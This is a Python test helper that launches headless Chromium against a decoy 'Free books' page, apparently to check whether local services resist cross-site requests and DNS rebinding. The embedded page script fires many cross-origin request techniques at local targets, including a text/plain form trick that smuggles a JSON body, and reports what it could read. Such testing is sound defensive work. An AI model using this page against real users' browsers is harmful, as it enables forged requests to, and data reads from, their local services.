"""A web page that tries everything a page can send to other servers of this machine, in a real browser."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import tempfile
import threading
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import NamedTuple

BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
# A name that the attacker has pointed to this machine.
REBOUND = "evil.example"

_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-default-apps",
    "--disable-dev-shm-usage",
    "--no-proxy-server",
]
_NAMES = f"MAP {REBOUND} 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE localhost, EXCLUDE 127.0.0.1"

# Each way sends a request and tells what the page can read of the answer: "" for nothing.
_PAGE = """<!doctype html><title>Free books</title><body><script>
const targets = TARGETS;
const text = async answer => (answer.type === "opaque" ? "" : await answer.text());
const post = (target, options) => fetch(target.url, {method: "POST", ...options}).then(text);
const load = (kind, target) => new Promise(done => {
  const element = document.createElement(kind);
  element.onload = () => done("loaded");
  element.onerror = () => done("");
  element.src = target.url;
  document.body.append(element);
});
const submit = (type, target) => new Promise(done => {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = form.target = "frame" + Math.random();
  form.action = target.url; form.method = "POST"; form.enctype = type;
  const field = document.createElement("input");
  // As text/plain, NAME=VALUE is the JSON of the body.
  field.name = target.body.slice(0, -1) + ', "x": "'; field.value = '"}';
  form.append(field); document.body.append(frame, form);
  // The first load is that of the empty frame, before the form is sent.
  frame.onload = () => { try { done(frame.contentDocument.body.innerText); } catch { done(""); } };
  setTimeout(() => done(""), 5000);
  form.submit();
});
const ways = {
  "get": target => fetch(target.url).then(text),
  "get no-cors": target => fetch(target.url, {mode: "no-cors"}).then(text),
  "json": target => post(target, {body: target.body, headers: {"Content-Type": "application/json"}}),
  "text": target => post(target, {body: target.body, credentials: "include"}),
  "text no-cors": target => post(target, {body: target.body, mode: "no-cors", credentials: "include"}),
  "untyped no-cors": target => post(target, {body: new Blob([target.body]), mode: "no-cors"}),
  "xhr": target => new Promise(done => {
    const request = new XMLHttpRequest();
    request.onload = () => done(request.responseText);
    request.onerror = () => done("");
    request.open("POST", target.url);
    request.send(target.body);
  }),
  "beacon": async target => { navigator.sendBeacon(target.url, target.body); return ""; },
  "form": target => submit("text/plain", target),
  "encoded form": target => submit("application/x-www-form-urlencoded", target),
  "multipart form": target => submit("multipart/form-data", target),
  "script": target => load("script", target),
  "image": target => load("img", target),
};
(async () => {
  const tries = targets.flatMap(target => Object.entries(ways).map(async ([way, send]) =>
    ({url: target.url, way, read: await send(target).catch(() => "")})));
  const found = await Promise.all(tries);
  await fetch("/found", {method: "POST", body: JSON.stringify(found)});
})();
</script>
"""


class Target(NamedTuple):
    """Where the page sends its requests, and the JSON object in them."""

    url: str
    body: str


class _Attacker(ThreadingHTTPServer):
    """Serves the page, hears what it found, and answers ``/bait`` so that every page may read it."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.page = b""
        self.baited: list[tuple[str, bytes]] = []
        self.found: list[dict[str, str]] = []
        self.heard = threading.Event()


class _Handler(BaseHTTPRequestHandler):
    server: _Attacker

    def do_GET(self) -> None:
        self._answer(b"bait" if self.path == "/bait" else self.server.page)

    def do_OPTIONS(self) -> None:
        self._answer(b"")

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        if self.path == "/bait":
            self.server.baited.append((self.headers.get("Content-Type", ""), body))
        else:
            self.server.found = json.loads(body)
            self.server.heard.set()
        self._answer(b"bait")

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        origin = self.headers.get("Origin")
        if origin:
            self.send_header("Access-Control-Allow-Origin", origin)
            self.send_header("Access-Control-Allow-Credentials", "true")
            self.send_header("Access-Control-Allow-Headers", "content-type")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Say nothing."""


class Visit(NamedTuple):
    """What came of a visit to the page.

    :param found: of each try ``url``, ``way`` and ``read``, what the page could read.
    :param baited: content type and body of each request that arrived at the attacker's own ``/bait``.
    """

    found: list[dict[str, str]]
    baited: list[tuple[str, bytes]]


def visit(targets: list[Target], *, name: str = "127.0.0.1", seconds: float = 120) -> Visit:
    """Open the page in a browser, from a server on another port of this machine, and wait until it has tried all.

    :param name: the host in the page's address. Its own ``/bait``, under another name, is among the targets.
    """
    attacker = _Attacker()
    port = attacker.server_port
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    bait = Target(f"http://{'localhost' if name == '127.0.0.1' else '127.0.0.1'}:{port}/bait", '{"a": 1}')
    addresses = json.dumps([target._asdict() for target in [*targets, bait]])
    attacker.page = _PAGE.replace("TARGETS", addresses).encode()
    try:
        with browser(f"http://{name}:{port}/"):
            if not attacker.heard.wait(seconds):
                raise TimeoutError(f"the page did not report within {seconds} s")
        return Visit(attacker.found, attacker.baited)
    finally:
        attacker.shutdown()
        attacker.server_close()


@contextmanager
def browser(url: str):
    """Open an address in a browser of its own, until the block ends."""
    assert BROWSER is not None
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        command = [BROWSER, *_FLAGS, f"--host-resolver-rules={_NAMES}", f"--user-data-dir={profile}"]
        process = subprocess.Popen(
            # Without a debugging port, a headless browser ends as soon as the page has loaded.
            [*command, "--remote-debugging-port=0", url],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
            env=os.environ | {"HOME": profile},
        )
        try:
            yield
        finally:
            with suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)
            process.wait()
